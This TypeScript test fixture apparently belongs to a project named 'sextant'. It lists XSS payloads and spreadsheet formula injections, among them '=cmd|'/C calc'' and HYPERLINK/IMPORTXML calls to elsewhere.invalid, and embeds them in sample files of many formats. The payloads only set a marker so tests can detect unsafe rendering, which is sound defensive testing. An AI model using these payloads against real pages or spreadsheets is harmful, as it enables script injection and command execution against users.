import type { Kind } from "../tasks.ts";

/** What each hostile text would call, were it ever run: tests look whether it was. */
export const MARK = "sextantRan";
const RUN = `globalThis.${MARK}=1`;

/** Texts that run in a page that takes them for anything but text; written for this project. */
export const HOSTILE: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  `<details open ontoggle="${RUN}">`,
  `<a href="javascript:${RUN}">open</a>`,
  `<a href=" java\tscript:${RUN}">open</a>`,
  `<style>@import url("//elsewhere.invalid/a.css");*{background:url(//elsewhere.invalid/b)}</style>`,
  `<link rel=stylesheet href=//elsewhere.invalid/c.css><base href=//elsewhere.invalid/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action=javascript:${RUN}><button autofocus onfocus="${RUN}">go</button></form>`,
  `<math><mi xlink:href="data:text/html,<script>${RUN}</script>">x</mi></math>`,
  `<template><img src=x onerror="${RUN}"></template><noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
  `"><img src=x onerror="${RUN}"><"`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`,
  `]]><script>${RUN}</script><![CDATA[`,
  `--><script>${RUN}</script><!--`,
  `{{constructor.constructor("${RUN}")()}} \${${RUN}} #{${RUN}}`,
  `[open](javascript:${RUN}) ![seen](//elsewhere.invalid/d.png) <javascript:${RUN}>`,
  `\u202e<script>${RUN}</script>\u202c\u0000`,
  `=cmd|'/C calc'!A0`,
  `+HYPERLINK("//elsewhere.invalid/"&A1,"open")`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  `-2+3;=IMPORTXML("//elsewhere.invalid/","//a")`,
];

/** All of them in one line, for the places that hold one text. */
export const HOSTILE_LINE = HOSTILE.join(" ").replaceAll(/[\n\u0000]/g, " ");

/** A name that would be a tag, a path and a formula. */
export const HOSTILE_NAME = `=<img src=x onerror="${RUN}">`;

/** A file in which every place that a person's words can have is hostile. */
export interface HostileFile {
  /** The format that reads it. */
  readonly format: string;
  readonly kind: Kind;
  readonly name: string;
  readonly content: string;
}

const line = HOSTILE_LINE;
const json = (value: unknown): string => JSON.stringify(value);
const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const turns = [
  { role: "user", name: line, content: `${line} compass` },
  { role: "assistant", content: `${line} north` },
];
const parameters = {
  type: "object",
  required: [line],
  properties: { [line]: { type: "string", description: line, enum: [line], default: line } },
};
const tool = { name: `find ${line}`, description: `${line} compass`, parameters };

const of = (format: string, kind: Kind, extension: string, content: string): HostileFile => ({
  format,
  kind,
  name: `${HOSTILE_NAME} ${format}.${extension}`,
  content,
});

export const HOSTILE_FILES: readonly HostileFile[] = [
  of(
    "markdown",
    "document",
    "md",
    `---\ntitle: ${json(line)}\ntags: [${json(line)}]\n---\n\n# ${line}\n\n${HOSTILE.join("\n\n")}\n\ncompass\n`,
  ),
  of(
    "html",
    "document",
    "html",
    `<title>${line}</title><p>A compass points north, and that is all of it.</p><h1>${line}</h1><p>compass ${HOSTILE.join("</p><p>")}</p>`,
  ),
  of(
    "source-code",
    "document",
    "ts",
    `/** ${line} */\nexport function compass() {\n  return ${json(line)};\n}\n`,
  ),
  of(
    "table-rows",
    "document",
    "csv",
    `${cell(line)},${cell(`${line} 2`)}\n${HOSTILE.map((one) => `${cell(one)},compass`).join("\n")}\n`,
  ),
  of(
    "json-documents",
    "document",
    "jsonl",
    HOSTILE.map((one) => json({ title: one, text: `${one} compass`, url: `javascript:${RUN}` })).join("\n"),
  ),
  of("plain-text", "document", "txt", HOSTILE.map((one) => `${one} compass`).join("\n\n")),
  of("chat-json", "exchange", "json", json({ title: line, messages: turns })),
  of(
    "whatsapp",
    "exchange",
    "txt",
    HOSTILE.map(
      (one, i) => `12/31/23, 10:${10 + i} PM - ${i % 2 === 0 ? "Ann <b>" : "=Ben"}: ${one} compass`,
    ).join("\n"),
  ),
  of(
    "transcript",
    "exchange",
    "txt",
    `User: ${line} compass\nAssistant: ${line}\nUser: ${line}\nAssistant: north\n`,
  ),
  of("long-text", "chunk", "txt", HOSTILE.map((one) => `${one} compass. `.repeat(8)).join("\n\n")),
  of(
    "example-json",
    "example",
    "jsonl",
    HOSTILE.map((one) => json({ input: `${one} compass`, output: one })).join("\n"),
  ),
  of(
    "example-table",
    "example",
    "csv",
    `text,label\n${HOSTILE.map((one) => `${cell(`${one} compass`)},${cell(one)}`).join("\n")}\n`,
  ),
  of("tool-specs", "tool", "json", json([{ type: "function", function: tool }])),
  of(
    "openapi",
    "tool",
    "json",
    json({
      openapi: "3.0.0",
      info: { title: line, version: "1" },
      paths: {
        "/compass": {
          get: {
            operationId: "compass",
            summary: line,
            description: line,
            tags: [line],
            parameters: [
              { name: line, in: "query", description: line, schema: { type: "string", default: line } },
            ],
            responses: { 200: { description: line } },
          },
        },
      },
    }),
  ),
];
